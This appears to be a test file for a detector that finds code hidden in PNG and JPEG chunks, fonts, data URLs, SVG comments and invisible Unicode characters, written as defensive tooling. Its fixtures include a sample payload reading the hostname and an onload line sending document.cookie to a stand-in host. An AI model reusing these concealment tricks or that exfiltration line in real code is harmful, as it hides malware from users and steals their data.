import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { contents, layerOf } from '../testing.ts';
import bundleModules from './bundle-modules.ts';
import carriers from './carriers.ts';
import invisibleText from './invisible-text.ts';
import markupComments from './markup-comments.ts';
import markupScripts from './markup-scripts.ts';
import packedData from './packed-data.ts';

const CODE =
  "const os = require('os');\nfunction start() { return os.hostname() + ' https://fixture.example/api'; }\nstart();";
const PNG = Buffer.from('89504e470d0a1a0a', 'hex');

function chunk(type: string, data: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32BE(data.length);
  return Buffer.concat([size, Buffer.from(type), data, Buffer.alloc(4)]);
}
const png = (...chunks: Buffer[]): Buffer =>
  Buffer.concat([PNG, chunk('IHDR', Buffer.alloc(13, 1)), ...chunks, chunk('IEND', Buffer.alloc(0))]);

test.each([
  ['text chunk', png(chunk('tEXt', Buffer.from(`Comment\0${CODE}`))), 'png'],
  ['packed text chunk', png(chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(CODE)]))), 'png'],
  ['international text chunk', png(chunk('iTXt', Buffer.from(`Comment\0\0\0en\0Comment\0${CODE}`))), 'png'],
  [
    'base64 in a text chunk',
    png(chunk('tEXt', Buffer.from(`Comment\0${Buffer.from(CODE).toString('base64')}`))),
    'png',
  ],
  ['behind the picture', Buffer.concat([png(), Buffer.from(`\n${CODE}\n`)]), 'png'],
  [
    'JPEG comment',
    Buffer.concat([
      Buffer.from('ffd8fffe', 'hex'),
      Buffer.from([0, CODE.length + 2]),
      Buffer.from(CODE),
      Buffer.from('ffda00021122ffd9', 'hex'),
    ]),
    'jpeg',
  ],
  ['behind a JPEG', Buffer.concat([Buffer.from('ffd8ffda00021122ffd9', 'hex'), Buffer.from(CODE)]), 'jpeg'],
  [
    'in a font',
    Buffer.concat([
      Buffer.from('wOF2\0\x01\0\0'),
      Buffer.alloc(300, 7),
      Buffer.from(`${CODE}\n${CODE}`),
      Buffer.alloc(40),
    ]),
    'woff2',
  ],
])('%s', (_, bytes, kind) => {
  expect(contents(carriers, layerOf(bytes, kind)).map((text) => text.slice(0, CODE.length))).toEqual([CODE]);
});

test('pictures in addresses: what they carry, not the pictures', () => {
  const loaded = png(chunk('tEXt', Buffer.from(`Comment\0${CODE}`))).toString('base64');
  expect(contents(carriers, layerOf(`img.src = "data:image/png;base64,${loaded}"`))).toEqual([CODE]);
  expect(contents(carriers, layerOf(`img.src = "data:image/png;base64,${png().toString('base64')}"`))).toEqual([]);
  expect(
    contents(carriers, layerOf(`import("data:text/javascript;base64,${Buffer.from(CODE).toString('base64')}")`)),
  ).toEqual([CODE]);
  expect(contents(carriers, layerOf(`import("data:text/javascript,${encodeURIComponent(CODE)}")`))).toEqual([CODE]);
  expect(contents(carriers, layerOf(`a { background: url(data:image/png;base64,${loaded}) }`, 'text'))).toEqual([CODE]);
});

test('hostile pictures end', () => {
  fc.assert(
    fc.property(
      fc.uint8Array({ maxLength: 400 }),
      fc.constantFrom('png', 'jpeg', 'gif', 'woff2', 'zip', 'gzip'),
      (bytes, kind) => {
        const head = {
          png: PNG,
          jpeg: Buffer.from('ffd8ff', 'hex'),
          gif: Buffer.from('GIF89a'),
          woff2: Buffer.from('wOF2'),
          zip: Buffer.from('504b0304', 'hex'),
          gzip: Buffer.from('1f8b08', 'hex'),
        }[kind];
        contents(carriers, layerOf(Buffer.concat([head ?? Buffer.alloc(0), bytes]), kind));
        contents(packedData, layerOf(Buffer.concat([head ?? Buffer.alloc(0), bytes]), kind));
      },
    ),
    { numRuns: 300 },
  );
});

const ALPHABET = 'qwertyuiopasdfghjklzxcvbnmQWERTYUIOPASDFGHJKLZXCVBNM9876543210-_';
const STANDARD = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';

test('comments of pictures in the order of their names, in the letters of the code', () => {
  const data = Buffer.from(CODE)
    .toString('base64')
    .replace(/=+$/, '')
    .replace(/./g, (c) => ALPHABET[STANDARD.indexOf(c)]!);
  const pieces = data.match(/.{1,20}/g) ?? [];
  const files = pieces.map((piece, i) => ({
    path: `assets/flags/f${String(i).padStart(2, '0')}.svg`,
    text: `<svg><!-- ${piece} --><path d="M0 0"/></svg>`,
  }));
  const text = `const letters = '${ALPHABET}'; fs.readdirSync('assets/flags').filter((n) => n.endsWith('.svg')).sort()`;
  expect(contents(markupComments, layerOf(text, 'javascript', null, files.toReversed()))).toEqual([CODE]);
  const one = `<svg>${(
    Buffer.from(CODE)
      .toString('base64')
      .match(/.{1,30}/g) ?? []
  )
    .map((piece) => `<!--${piece}-->`)
    .join('<g/>')}</svg>`;
  expect(contents(markupComments, layerOf(one, 'svg'))).toEqual([CODE]);
  expect(
    contents(
      markupComments,
      layerOf('<svg><!-- Created with a tool, see its license --><g/><!-- Layer 1 --></svg>', 'svg'),
    ),
  ).toEqual([]);
});

test('scripts of pages', () => {
  const page = `<html><body onload="location.href = &quot;https://fixture.example/&quot; + document.cookie + 1"><script>${CODE}</script><script type="application/ld+json">{"a": 1}</script></body></html>`;
  expect(contents(markupScripts, layerOf(page, 'html'))).toEqual([
    CODE,
    'location.href = "https://fixture.example/" + document.cookie + 1',
  ]);
});

test('letters that nobody sees', () => {
  fc.assert(
    fc.property(fc.constantFrom('selectors', 'tags', 'bits', 'hangul'), (way) => {
      const bytes = [...Buffer.from(CODE.replaceAll('\n', ' '))];
      const hidden = {
        selectors: () => bytes.map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)),
        tags: () => bytes.map((byte) => String.fromCodePoint(0xe0000 + byte)),
        bits: () =>
          bytes.map((byte) => byte.toString(2).padStart(8, '0').replaceAll('0', '\u200b').replaceAll('1', '\u200c')),
        hangul: () =>
          bytes.map((byte) => byte.toString(2).padStart(8, '0').replaceAll('0', '\uffa0').replaceAll('1', '\u3164')),
      }
        [way]()
        .join('');
      expect(contents(invisibleText, layerOf(`decode(\`${hidden}\`)`))).toEqual([CODE.replaceAll('\n', ' ')]);
    }),
  );
});

test.each([
  [
    'webpack',
    `(() => { var __webpack_modules__ = {"./src/a.js": (module) => { module.exports = 'a'.repeat(40) + 'and more of it'; }, "./src/b.js": ((module, exports, __webpack_require__) => { exports.b = __webpack_require__('./src/a.js') + 'twice'; })}; })()`,
    2,
  ],
  [
    'webpack, numbers',
    `(self.webpackChunk = self.webpackChunk || []).push([[1], {12: (e, t, n) => { e.exports = n(34) + "one of the two of them, really"; }, 34: (e) => { e.exports = "the other of the two of them, really"; }}])`,
    2,
  ],
  [
    'browserify',
    `(function e(t,n,r){return r})({1:[function(require,module,exports){ module.exports = require('./dep')('something longer than that'); },{"./dep":2}],2:[function(require,module,exports){ module.exports = function (text) { return text + text; }; },{}]},{},[1]);`,
    2,
  ],
  [
    'esbuild',
    `var require_lib = __commonJS({ "src/lib.js"(exports, module) { module.exports = function (text) { return text.trim() + text; }; } });`,
    1,
  ],
  [
    'AMD',
    `define("app/main", ["require"], function (require) { return require('./other').start('with a long argument'); });`,
    1,
  ],
])('modules of a bundle: %s', (_, text, count) => {
  expect(contents(bundleModules, layerOf(text))).toHaveLength(count);
});

test('ordinary tables of functions are no bundle', () => {
  const text = `const handlers = { open: function () { return 'opened and something else to make it long'; }, close: function () { return 'closed and something else to make it long'; } }; module.exports = handlers;`;
  expect(contents(bundleModules, layerOf(text))).toEqual([]);
});
